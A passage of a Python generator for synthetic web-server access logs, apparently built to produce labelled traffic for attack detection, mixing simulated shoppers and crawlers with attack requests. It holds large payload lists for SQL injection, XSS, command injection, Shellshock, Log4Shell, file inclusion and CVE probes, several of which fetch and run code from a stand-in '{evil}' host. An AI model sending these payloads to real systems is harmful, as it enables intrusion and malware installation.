                           "RLIKE (SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0x28 END))" % (a, a),
                           "AND MAKE_SET(%d=%d,%d)" % (a, a, b), "AND ELT(%d=%d,%d)" % (a, b, a),
                           "AND (SELECT (CASE WHEN (%d=%d) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (a, a, a),
                           "HAVING %d=%d" % (a, a), "ORDER BY 1"])
    elif technique == "error":
        x, y = _hexs(rng), _hexs(rng)
        core = rng.choice([
            "AND EXTRACTVALUE(%d,CONCAT(0x5c,%s,(SELECT (ELT(%d=%d,1))),%s))" % (a, x, a, a, y),
            "AND UPDATEXML(%d,CONCAT(0x2e,%s,(SELECT (ELT(%d=%d,1))),%s),%d)" % (a, x, a, a, y, b),
            "AND GTID_SUBSET(CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s),%d)" % (x, a, a, y, a),
            "AND %d=CAST((CHR(113)||CHR(118)||CHR(106)||CHR(107)||CHR(113))||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(112)||CHR(122)||CHR(106)||CHR(113)) AS NUMERIC)" % (a, a, a),
            "AND %d IN (SELECT (CHAR(113)+CHAR(118)+CHAR(106)+CHAR(107)+CHAR(113)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(112)+CHAR(122)+CHAR(106)+CHAR(113)))" % (a, a, a),
            "OR (SELECT %d FROM(SELECT COUNT(*),CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (a, x, a, a, y),
            "PROCEDURE ANALYSE(EXTRACTVALUE(%d,CONCAT(0x5c,%s,(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END)),%s)),1)" % (a, x, a, a, y)])
    elif technique == "time":
        core = rng.choice(["AND (SELECT %d FROM (SELECT(SLEEP(5)))%s)" % (a, _rs(rng)), "AND SLEEP(5)", "OR SLEEP(5)",
                           "AND %d=(SELECT %d FROM PG_SLEEP(5))" % (a, a), "WAITFOR DELAY '0:0:5'",
                           "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d)||CHR(%d)||CHR(%d),5)" % (a, rng.randint(65, 90), rng.randint(65, 90), rng.randint(97, 122), rng.randint(97, 122)),
                           "AND %d=BENCHMARK(5000000,MD5(%s))" % (a, _hexs(rng, 4)),
                           "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))" % a,
                           "RLIKE SLEEP(5)", "AND (SELECT * FROM (SELECT(SLEEP(5)))%s)" % _rs(rng)])
    elif technique == "union":
        n = rng.randint(1, 12)
        cols = ["NULL"] * n
        if rng.random() < 0.5:
            cols[rng.randrange(n)] = "CONCAT(%s,%s,%s)" % (_hexs(rng), "0x" + "".join("%02x" % rng.randint(65, 122) for _ in range(20)), _hexs(rng))
        core = rng.choice(["UNION ALL SELECT %s" % ",".join(cols), "UNION ALL SELECT %s#" % ",".join(cols),
                           "ORDER BY %d" % rng.randint(1, 20)])
        close = rng.choice(["-- -", "-- %s" % _rs(rng), "#", ""])
    elif technique == "stacked":
        core = rng.choice([";SELECT PG_SLEEP(5)", ";WAITFOR DELAY '0:0:5'", ";SELECT SLEEP(5)",
                           ";SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5) FROM DUAL",
                           ";SELECT (CASE WHEN (%d=%d) THEN %d ELSE 1/(SELECT 0) END)" % (a, b, a)])
        return pre + core + rng.choice(["--", "-- %s" % _rs(rng), "#", ""])
    else:  # heuristic / syntax breakers sqlmap sends first
        return rng.choice(["".join(rng.choice("'\"(),.") for _ in range(10)),
                           "%s'%s<'\">%s" % (rng.choice(["", "1"]), _rs(rng, 6), _rs(rng, 6))])
    return pre + " " + core + close


def tamper(rng, payload, how):
    if how == "space2comment":
        return payload.replace(" ", "/**/")
    if how == "randomcase":
        return re.sub(r"[A-Z]{2,}", lambda m: "".join(c.lower() if rng.random() < 0.5 else c for c in m.group(0)), payload)
    if how == "between":
        return re.sub(r"(\d+)=(\d+)", r"\1 BETWEEN \2 AND \2", payload)
    if how == "charencode":  # every character, as sqlmap's charencode.py
        return "".join("%%%02X" % ord(c) for c in payload)
    return payload


MANUAL_SQLI = ["' OR '1'='1", "' OR 1=1-- -", "1' OR '1'='1' -- ", "admin'--", "\" OR \"\"=\"", "1;DROP TABLE users",
               "' UNION SELECT username,password FROM users--", "1 AND 1=2 UNION SELECT 1,@@version,3",
               "-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables-- -",
               "1' AND SLEEP(5)#", "'; EXEC xp_cmdshell('whoami');--", "1' ORDER BY 3--+", "%27%20OR%201=1",
               "1)) OR ((1=1", "' or ''='", "1' AND extractvalue(1,concat(0x7e,version()))-- -",
               "sleep(5)#", "1 or benchmark(10000000,MD5(1))#", "\" or sleep(5)=\"", "')) or sleep(5)='"]
XSS = ["<script>alert(1)</script>", "\"><script>alert(document.domain)</script>", "<img src=x onerror=alert(1)>",
       "<svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'", "<iframe src=\"javascript:alert(1)\">",
       "<body onload=alert('XSS')>", "<details open ontoggle=confirm(1)>", "\" onmouseover=\"alert(1)",
       "<ScRiPt>prompt(1)</sCrIpT>", "<marquee onstart=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
       "<input autofocus onfocus=alert(1)>", "<script>alert(String.fromCharCode(88,83,83))</script>",
       "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
       "'\"><img src=x onerror=prompt(document.cookie)>", "</script><script>alert(1)</script>",
       "<script src=//evil.example.com/x.js></script>", "%3Cscript%3Ealert(1)%3C/script%3E", "<BODY ONLOAD=alert(1)>",
       "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>", "<video><source onerror=\"alert(1)\">",
       "<style>@import'javascript:alert(1)';</style>", "\"-confirm`1`-\"", "<math href=\"javascript:alert(1)\">x</math>"]
CMDI = [";id", "|id", ";id;", "|id|", "`id`", "$(id)", ";env;", "a;env", "a);env", "|env", ";cat /etc/passwd",
        "|cat /etc/passwd", "$(cat /etc/passwd)", "`cat /etc/passwd`", "\nid", "\ncat /etc/passwd\n", "&&whoami",
        "||whoami", ";uname -a;", "|uname -a", ";sleep 5;", "$(sleep 5)", "`sleep 5`", "&ping -c 5 127.0.0.1&",
        ";ping -n 5 127.0.0.1", ";echo${IFS}vulnerable", "${IFS}id", ";wget http://{evil}/x.sh -O- | sh",
        "$(curl -s http://{evil}/a|sh)", "|nslookup {rnd}.{oast}", "`nslookup {rnd}.{oast}`", "& dir", "| type C:\\windows\\win.ini",
        ";system('id')", "';exec('id');'", "a|/bin/sh -c id", "\r\nid", "%0aid", "1;phpinfo();"]
SHELLSHOCK = ["() { :; }; echo; /bin/bash -c \"cat /etc/passwd\"", "() { :;}; /bin/bash -c \"wget http://{evil}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b\"",
              "() { :; }; echo Content-Type: text/plain; echo; echo; /usr/bin/id", "() { ignored; }; echo Content-Type: text/html; echo ; /bin/cat /etc/passwd"]
RFI = ["http://{evil}/shell.txt?", "http://{evil}/c99.txt%00", "https://{evil}/r57.txt", "ftp://{evil}/x.php", "//{evil}/inc.txt",
       "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=", "expect://id",
       "http://www.google.com/", "https://{rnd}.{oast}/", "http://{evil}/test.txt???", "hTtP://{evil}/x.txt"]
LFI = ["../../../../etc/passwd", "../../../../../../../../etc/passwd", "....//....//....//etc/passwd",
       "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
       "..%c0%af..%c0%af..%c0%afetc/passwd", "..\\..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5cwin.ini",
       "/etc/passwd%00", "/etc/passwd", "/etc/services", "/etc/shadow", "/proc/self/environ", "../../../../proc/self/cmdline",
       "php://filter/convert.base64-encode/resource=index.php", "php://filter/read=convert.base64-encode/resource=../config.php",
       "file:///etc/passwd", "C:\\boot.ini", "c:/windows/win.ini", "/../../../../../../../../etc/hosts",
       "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..;/..;/..;/etc/passwd",
       "../../../../../../../../../../etc/passwd%00.jpg", "/var/log/nginx/access.log", "../../WEB-INF/web.xml",
       "..%u2215..%u2215etc%u2215passwd"]
LFI_PATH = ["/static/..%2f..%2f..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..;/..;/..;/etc/passwd", "/assets/../../../../etc/passwd",
            "/images/..%252f..%252f..%252fetc/passwd", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
            "/..\\..\\..\\..\\windows\\win.ini", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "/download?file=../../../../etc/passwd"]
CRLF = ["%0d%0aSet-Cookie:crlf=injection", "%0D%0ALocation:%20http://{evil}", "%250d%250aSet-Cookie:crlf=injection",
        "%0aHeader-Test:BLATRUC", "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", "%0d%0a%0d%0a<script>alert(1)</script>",
        "%23%0dSet-Cookie:crlf=1", "%u000ASet-Cookie:crlf=1", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
        "http%253A%2F%2Fwww.google.fr%250D%250Awapiti%253A%25203.0.4%2520version"]
JNDI = ["${jndi:ldap://{evil}:1389/Exploit}", "${jndi:ldap://{rnd}.{oast}/a}", "${jndi:dns://{evil}/x}",
        "${jndi:rmi://{evil}:1099/obj}", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{evil}/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{evil}/poc}",
        "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//{evil}/a}",
        "${jndi:ldap://${hostName}.{rnd}.{oast}/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://{evil}/Basic/Command/Base64/d2dldA==}",
        "${${upper:j}ndi:ldaps://{evil}/x}"]
SENSITIVE = ["/.env", "/.env.bak", "/.env.local", "/.env.production", "/api/.env", "/laravel/.env", "/app/.env", "/backend/.env",
             "/.git/config", "/.git/HEAD", "/.git/index", "/.gitignore", "/.svn/entries", "/.svn/wc.db", "/.hg/hgrc",
             "/.DS_Store", "/.htaccess", "/.htpasswd", "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa", "/.bash_history",
             "/wp-config.php.bak", "/wp-config.php~", "/wp-config.php.save", "/wp-config.php.old", "/config.php.bak",
             "/config.php~", "/configuration.php.bak", "/web.config", "/config.json", "/config.yml", "/config/database.yml",
             "/database.yml", "/settings.py", "/docker-compose.yml", "/Dockerfile", "/.dockerenv", "/.vscode/sftp.json",
             "/sftp-config.json", "/.idea/workspace.xml", "/composer.json", "/composer.lock", "/package.json",
             "/phpinfo.php", "/info.php", "/php_info.php", "/test.php", "/server-status", "/server-info", "/.well-known/security.txt",
             "/backup.zip", "/backup.tar.gz", "/site.zip", "/www.zip", "/shop.zip", "/db.sql", "/dump.sql", "/database.sql",
             "/backup.sql", "/data.sql", "/users.sql", "/error_log", "/logs/error.log", "/debug.log", "/storage/logs/laravel.log",
             "/.npmrc", "/.travis.yml", "/.circleci/config.yml", "/.gitlab-ci.yml", "/credentials.json", "/secrets.json",
             "/firebase.json", "/.s3cfg", "/etc/passwd", "/actuator/env", "/actuator/heapdump", "/_profiler/phpinfo"]
ADMIN = ["/wp-login.php", "/wp-admin/", "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/administrator/", "/admin/", "/admin/login",
         "/admin.php", "/admin/login.php", "/login.php", "/user/login", "/phpmyadmin/", "/phpMyAdmin/", "/pma/", "/myadmin/",
         "/phpmyadmin/index.php", "/mysql/", "/dbadmin/", "/adminer.php", "/manager/html", "/host-manager/html", "/solr/admin/",
         "/console/", "/jenkins/login", "/login.action", "/index.php/admin", "/cpanel", "/webmail/", "/panel/", "/cms/",
         "/typo3/", "/bitrix/admin/", "/umbraco/", "/admin/config.php", "/admincp/", "/backend/", "/manage/", "/system/login",
         "/api/admin", "/wp/wp-login.php", "/blog/wp-login.php", "/wordpress/wp-admin/", "/user/register", "/owa/auth/logon.aspx",
         "/remote/login", "/+CSCOE+/logon.html", "/global-protect/login.esp", "/vpn/index.html", "/cgi-bin/login.cgi"]
WEBSHELLS = ["/shell.php", "/wso.php", "/c99.php", "/r57.php", "/alfa.php", "/alfa-rex.php", "/up.php", "/upload.php", "/cmd.php",
             "/b374k.php", "/indoxploit.php", "/xleet.php", "/wp-content/plugins/hellopress/wp_filemanager.php",
             "/wp-content/themes/twentytwenty/404.php", "/wp-content/uploads/wso.php", "/wp-includes/wp-class.php",
             "/wp-admin/css/colors/blue/index.php", "/.well-known/mar.php", "/.well-known/index.php", "/uploads/1.php?cmd=id",
             "/images/shell.php", "/tmp/x.php", "/files/up.php", "/admin/upload/shell.php", "/mini.php", "/simple.php",
             "/about.php", "/radio.php", "/content.php", "/wp-content/plugins/core-plugin/include.php", "/class.api.php",
             "/fm.php", "/filemanager.php", "/wp-file-manager/lib/php/connector.minimal.php", "/gel4y.php", "/lufix.php",
             "/moon.php", "/chosen.php", "/ws.php", "/ws7.php", "/wp-2019.php", "/shell.aspx", "/cmd.jsp", "/shell.jsp",
             "/1.php", "/x.php", "/a.php", "/index.php?cmd=id", "/wp-content/plugins/wp-file-upload/shell.php"]
CVE = ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
       "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
       "/?s=/index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
       "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F{evil}%2Ft+-O-+|+sh%60)",
       "/shell?cd+/tmp;rm+-rf+*;wget+http://{evil}/jaws;sh+/tmp/jaws", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{evil}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
       "/GponForm/diag_Form?images/", "/HNAP1/", "/boaform/admin/formLogin?username=admin&psd=admin", "/cgi-bin/ViewLog.asp",
       "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
       "/vpn/../vpns/cfg/smb.conf", "/api/v1/totp/user-backup-code/../../system/system-information", "/?XDEBUG_SESSION_START=phpstorm",
       "/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&version=1576&cid=20", "/solr/admin/cores?action=CREATE&name=x",
       "/actuator/gateway/routes", "/mgmt/tm/util/bash", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/autodiscover/autodiscover.json?@zdi/Powershell",
       "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
       "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", "/jars/upload", "/webtools/control/SOAPService",
       "/_ignition/execute-solution", "/index.php?page=/etc/passwd", "/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F{evil}%2Fx;sh%20x;%22",
       "/public/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
       "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20arm7%3B%20wget%20http%3A%2F%2F{evil}%2Farm7",
       "/login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()}",
       "/api/jsonws/invoke", "/druid/index.html", "/geoserver/web/", "/nacos/v1/auth/users?pageNo=1&pageSize=9", "/.well-known/acme-challenge/../../etc/passwd"]
JUNK = [(b"\x16\x03\x01\x00\xfc\x01\x00\x00\xf8\x03\x03", 400), (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a", 400),
        (b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400), (b"SSH-2.0-Go", 400),
        (b"MGLNDD_%s_443", 400), (b"CONNECT www.google.com:443 HTTP/1.1", 400), (b"GET http://azenv.net/ HTTP/1.1", 404),
        (b"\x00\x00\x00\x00\x00\x00\x00\x00", 400), (b"GET / HTTP/1.0", 200), (b"SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1", 405),
        (b"PRI * HTTP/2.0", 400), (b"OPTIONS / RTSP/1.0", 400), (b"\x05\x01\x00", 400), (b"HELP", 400), (b"-", 400)]

DIR_WORDS = ("admin backup backups old new test tests dev staging tmp temp private secret hidden config conf cfg db database "
             "data dump sql logs log api v1 v2 v3 rest graphql swagger swagger-ui docs doc documentation readme install setup "
             "upgrade update cgi-bin cgi scripts bin include includes inc lib libs vendor node_modules assets static public "
             "uploads upload files file download downloads images img media css js fonts themes theme templates tpl cache "
             "wp wordpress blog cms portal site sites web www html htdocs src source app apps application core system "
             "server status stats statistics monitor health healthz metrics actuator console shell cmd exec debug trace error "
             "errors mail email webmail smtp ftp user users member members account accounts profile login logout signin signup "
             "register auth oauth token sso session sessions password passwd pass reset forgot manager management manage "
             "panel dashboard control cp cpanel phpmyadmin pma mysql adminer sqlite mongo redis elastic kibana grafana "
             "jenkins gitlab git svn cvs bak orig save copy archive archives zip tar gz rar export import report reports "
             "invoice invoices order orders cart checkout payment pay shop store products product catalog category search "
             "news press about contact help faq support service services jobs careers partner partners affiliate "
             "demo sample examples example old_site oldsite new_site beta alpha internal intranet extranet secure ssl "
             "test1 test2 tester testing qa uat prod production live main home index default welcome robots sitemap "
             "crossdomain security .well-known owa exchange autodiscover remote vpn citrix rdweb webdav dav").split()
DIR_EXTS = ["", "", "", "/", ".php", ".html", ".bak", ".old", ".txt", ".zip", ".asp", ".aspx", ".jsp", ".json", ".sql", ".tar.gz", "~"]

SCANNER_UAS = {
    "sqlmap": ["sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap/1.8.3#stable (https://sqlmap.org)", "sqlmap/1.6.12#stable (https://sqlmap.org)"],
    "sqlmap-random": ["Mozilla/5.0 (X11; U; SunOS sun4u; pl-PL; rv:1.8.1.6) Gecko/20071217 Firefox/2.0.0.6",
                      "Opera/9.80 (Windows NT 6.0; U; en) Presto/2.2.15 Version/10.00",
                      "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.5) Gecko/2008120122 Firefox/3.0.5",
                      "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; SLCC1; .NET CLR 2.0.50727)",
                      "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_3; en-us) AppleWebKit/531.22.7 (KHTML, like Gecko) Version/4.0.5 Safari/531.22.7"],
    "wfuzz": ["Wfuzz/3.1.0", "Wfuzz/2.4"],
    "dirb": ["Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"],
    "gobuster": ["gobuster/3.5", "gobuster/3.6"],
    "ffuf": ["Fuzz Faster U Fool v2.1.0-dev", "Fuzz Faster U Fool v1.5.0"],
    "feroxbuster": ["feroxbuster/2.10.0"],
    "dirbuster": ["DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"],
    "nuclei": ["Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"],
    "nikto": ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test})", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test})"],
    "wapiti": ["Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0"],
    "wpscan": ["WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"],
    "zgrab": ["Mozilla/5.0 zgrab/0.x"],
    "masscan": ["masscan/1.3 (https://github.com/robertdavidgraham/masscan)"],
    "nmap": ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"],
    "script": ["python-requests/2.31.0", "python-requests/2.28.1", "Go-http-client/1.1", "curl/7.88.1", "curl/8.4.0",
               "Python-urllib/3.10", "Wget/1.21.3", "libwww-perl/6.67", "axios/1.6.7", "okhttp/3.12.1", "Java/1.8.0_351",
               "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Mozilla/5.0 (l9scan/2.0.5; +https://leakix.net)",
               "Hello World", "Mozilla/5.0", "-", "Mozila/5.0 (Windows NT 10.0; Win64; x64)", "xfa1"],
    "browser-old": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
                    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
                    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
                    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.98 Safari/537.36",
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
                    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_2_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.3 Mobile/15E148 Safari/604.1"],
}


def fill(rng, s):
    if "{" not in s:
        return s
    return (s.replace("{evil}", rng.choice(EVIL)).replace("{oast}", rng.choice(OAST))
            .replace("{rnd}", _rs(rng, 8).lower()).replace("{test}", "%06d" % rng.randint(0, 999999)))


def enc_value(rng, payload, mode):
    """Put a payload into a query value: 'full' (tools, %-encode all), 'plus' (form encoding),
    'light' (only what a browser encodes: space, quote, <, >), 'raw' (as sent by a careless
    client: quotes and backslashes reach the log raw, so nginx escapes them)."""
    if "%" in payload and re.search(r"%[0-9a-fA-F]{2}|%u[0-9a-fA-F]{4}", payload):
        mode = "raw" if mode != "full" else "light"  # already encoded by the payload list
    if mode == "full":
        return q(payload)
    if mode == "plus":
        return quote_plus(payload)
    if mode == "light":
        return payload.replace("%", "%25").replace(" ", "%20").replace("\"", "%22").replace("<", "%3C").replace(">", "%3E").replace("\n", "%0A").replace("\r", "%0D").replace("#", "%23")
    return payload.replace(" ", "%20").replace("#", "%23").replace("\n", "%0A").replace("\r", "%0D")


CLASS_NAMES = {".": "human", ",": "human via gateway", "b": "crawler/monitor", "Q": "SQLi", "X": "XSS",
               "C": "command injection", "J": "Log4Shell", "R": "RFI", "L": "LFI/traversal", "N": "CRLF",
               "F": "sensitive file", "A": "admin probe", "W": "web shell", "D": "dir enumeration",
               "V": "known CVE", "P": "non-HTTP junk", "K": "attack tool, no payload"}

# --------------------------------------------------------------------------------------------
# the generator
# --------------------------------------------------------------------------------------------
class Gen:
    def __init__(self, a):
        self.a = a
        self.rng = rng = random.Random(a.seed)
        self.start = dt.datetime.strptime(a.start, "%Y-%m-%d").replace(tzinfo=TZ)
        self.days = a.days
        self.site = Site(rng, a.products, a.days)
        self.uas = UAPool(rng, a.uas)
        taken = set()
        self.human_addrs = make_addresses(rng, a.addresses, a.ipv6_share, JP_V4, JP_V6, ABROAD_V4, 0.03, taken)
        zw = [1.0 / (i + a.zipf_offset) ** a.zipf_s for i in range(len(self.human_addrs))]
        self.addr_cum = list(itertools.accumulate(zw))
        self.households = {}
        self.visits = {}
        # shared gateways: kind, address, population of people (each with a browser)
        self.gateways = []
        kinds = ["carrier", "carrier", "carrier", "office", "office", "campus", "carrier", "office", "carrier", "office"]
        for g in range(a.gateways):
            kind = kinds[g % len(kinds)]
            if kind == "carrier":
                addr = make_addresses(rng, 1, 0.0, [("49.96.0.0", 12, 1), ("106.128.0.0", 12, 1), ("126.0.0.0", 8, 1)][g % 3:g % 3 + 1], JP_V6, taken=taken)[0]
                pop = [self.uas.pick(rng, "mobile")[1] for _ in range(a.gateway_people)]
            elif kind == "office":
                addr = make_addresses(rng, 1, 0.0, [("153.128.0.0", 9, 1), ("60.32.0.0", 12, 1)], JP_V6, taken=taken)[0]
                pop = [self.uas.pick(rng, "desktop")[1] for _ in range(a.gateway_people // 2)]
            else:
                addr = make_addresses(rng, 1, 0.0, [("133.0.0.0", 8, 1)], JP_V6, taken=taken)[0]
                pop = [self.uas.pick(rng)[1] for _ in range(a.gateway_people)]
            self.gateways.append({"kind": kind, "addr": addr, "pop": pop, "weight": rng.uniform(0.6, 1.6), "lines": 0, "uas": set()})
        # crawlers
        self.crawlers = []
        for name, w, ua, nets in CRAWLERS:
            addrs = []
            for net in nets:
                p, l = net.split("/")
                addrs += [_v4(rng, p, int(l)) for _ in range(6 if l != "28" else 3)]
            self.crawlers.append((name, w, ua, sorted(set(addrs))))
        self.crawler_cum = list(itertools.accumulate(c[1] for c in self.crawlers))
        # attack sources
        self.attack_addrs = make_addresses(rng, a.attack_sources, 0.06, ATTACK_V4, ATTACK_V6, taken=taken)
        self.attack_cum = list(itertools.accumulate(1.0 / (i + 5) ** 0.8 for i in range(len(self.attack_addrs))))
        # day-of-span weights: weekly rhythm, noise, a sale day
        dow_w = [1.0, 0.97, 0.96, 0.98, 1.03, 1.12, 1.18]
        self.day_w = []
        self.sale_day = rng.randrange(self.days) if self.days > 3 else -1
        for d in range(self.days):
            day = self.start + dt.timedelta(days=d)
            w = dow_w[day.weekday()] * rng.uniform(0.92, 1.08)
            if d == self.sale_day:
                w *= 1.6
            self.day_w.append(w)
        self.hour_human = list(itertools.accumulate([3.2, 2.2, 1.4, 0.9, 0.7, 0.8, 1.3, 2.3, 3.2, 3.8, 4.2, 4.6,
                                                      5.4, 5.0, 4.5, 4.4, 4.5, 4.8, 5.2, 5.8, 6.6, 7.2, 6.8, 5.0]))
        self.hour_mobile = list(itertools.accumulate([3.0, 1.8, 1.0, 0.6, 0.5, 0.8, 1.8, 4.2, 4.8, 3.0, 3.0, 3.6,
                                                       6.5, 5.0, 3.4, 3.3, 3.6, 4.4, 5.6, 5.4, 5.8, 6.6, 6.8, 5.0]))
        self.hour_office = list(itertools.accumulate([0.1, 0.05, 0.05, 0.05, 0.05, 0.1, 0.2, 0.6, 3.0, 6.0, 7.0, 7.0,
                                                       5.0, 7.0, 7.0, 6.5, 6.5, 5.5, 3.0, 1.5, 0.8, 0.4, 0.2, 0.1]))
        self.hour_flat = list(itertools.accumulate([1.0] * 24))
        self.day_prefix = []
        for d in range(self.days + 3):
            day = self.start + dt.timedelta(days=d)
            self.day_prefix.append("%02d/%s/%d:" % (day.day, MONTHS[day.month - 1], day.year))
        self.stats = {"classes": {}, "campaigns": {}, "status": {}}

    # -------------------------------------------------------------------- helpers
    def at_hour(self, rng, day, cum):
        h = bisect.bisect(cum, rng.random() * cum[-1])
        return day * 86400.0 + min(h, 23) * 3600.0 + rng.random() * 3600.0

    def ev(self, out, ts, ip, req, status, size, ref, ua, cls, user="-"):
        out.append((ts, ip, user, req, status, size, ref, ua, cls))

    # -------------------------------------------------------------------- humans
    def page_size(self, rng, kind):
        return int(rng.lognormvariate({"product": 10.4, "list": 10.6, "home": 10.8, "search": 10.5}.get(kind, 9.8), 0.25))

    def session(self, rng, out, t0, ip, ua, mobile, cls, budget, app=False, returning=False, dayf=0.0):
        """One visit. Appends up to `budget` events, returns the number appended."""
        site = self.site
        start_len = len(out)
        http = "HTTP/2.0" if rng.random() < 0.7 else "HTTP/1.1"
        assets = site.assets(dayf)
        limit = start_len + budget

        def add(ts, req, status, size, ref):
            if len(out) < limit:
                out.append((ts, ip, "-", req, status, size, ref, ua, cls))

        if app:  # the shop's own app: API calls and images, no referers
            t = t0
            add(t, "GET /api/v1/home HTTP/1.1", 200, rng.randint(4000, 12000), "-")
            for _ in range(rng.randint(1, 12)):
                t += rng.lognormvariate(2.0, 1.0)
                r = rng.random()
                if r < 0.5:
                    pid = site.pid(rng)
                    add(t, "GET /api/v1/products/%d HTTP/1.1" % (site.first_pid + pid), 404 if pid in site.gone else 200, rng.randint(1500, 6000), "-")
                    for k in range(rng.randint(1, 4)):
                        add(t + 0.2 + k * 0.1, "GET /images/products/%d/main_%d.jpg HTTP/1.1" % (site.first_pid + pid, k + 1), 200, rng.randint(20000, 140000), "-")
                elif r < 0.75:
                    add(t, "GET /api/v1/search?q=%s&limit=40 HTTP/1.1" % quote(rng.choice(JP_TERMS + EN_TERMS)), 200, rng.randint(3000, 30000), "-")
                elif r < 0.9:
                    add(t, "GET /api/v1/cart HTTP/1.1", 200, rng.randint(300, 3000), "-")
                else:
                    add(t, "POST /api/v1/cart/items HTTP/1.1", 201, rng.randint(100, 400), "-")
            return len(out) - start_len

        t = t0
        # entry page
        r = rng.random()
